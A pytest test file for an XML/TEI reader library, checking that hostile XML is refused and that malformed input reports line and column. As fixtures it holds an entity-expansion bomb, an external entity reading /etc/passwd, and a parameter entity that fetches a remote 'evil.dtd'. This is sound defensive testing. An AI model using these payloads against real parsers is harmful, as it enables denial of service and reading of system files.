"""Hostile XML is refused before any entity is expanded or any file or network resource is read."""
from __future__ import annotations

import pytest

from nuskha.errors import XMLError
from nuskha.tei.read import parse_bytes, read_tei

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&lol9;</p></body></text></TEI>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&xxe;</p></body></text></TEI>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment first does not hide it -->
<!DOCTYPE TEI SYSTEM "http://example.com/tei.dtd">
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>x</p></body></text></TEI>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_doctype_and_entities_are_refused(data, tmp_path):
    with pytest.raises(XMLError, match="refused") as info:
        parse_bytes(data, "evil.xml")
    assert "evil.xml" in str(info.value)
    path = tmp_path / "evil.xml"
    path.write_bytes(data)
    with pytest.raises(XMLError, match="refused"):
        read_tei(path)


def test_doctype_line_is_named():
    with pytest.raises(XMLError) as info:
        parse_bytes(EXTERNAL_DTD, "evil.xml")
    assert info.value.position == "3:1"


def test_undeclared_entity_is_malformed_not_expanded():
    with pytest.raises(XMLError, match="malformed") as info:
        parse_bytes(b'<TEI xmlns="http://www.tei-c.org/ns/1.0">\n<p>&xxe;</p></TEI>', "x.xml")
    assert info.value.position.startswith("2:")


def test_malformed_xml_gives_line_and_column():
    data = b'<?xml version="1.0"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0">\n  <text><body>\n  </bdy></text></TEI>'
    with pytest.raises(XMLError) as info:
        parse_bytes(data, "bad.xml")
    line, col = info.value.position.split(":")
    assert line == "4" and int(col) > 0
    assert str(info.value).startswith("bad.xml:4:")


def test_cli_refuses_hostile_file_with_one_line(run_nuskha_tei, tmp_path):
    path = tmp_path / "evil.xml"
    path.write_bytes(EXTERNAL_ENTITY)
    code, out, err = run_nuskha_tei("align", path, path)
    assert code == 2
    assert err.strip().count("\n") == 0 and "refused" in err and str(path) in err
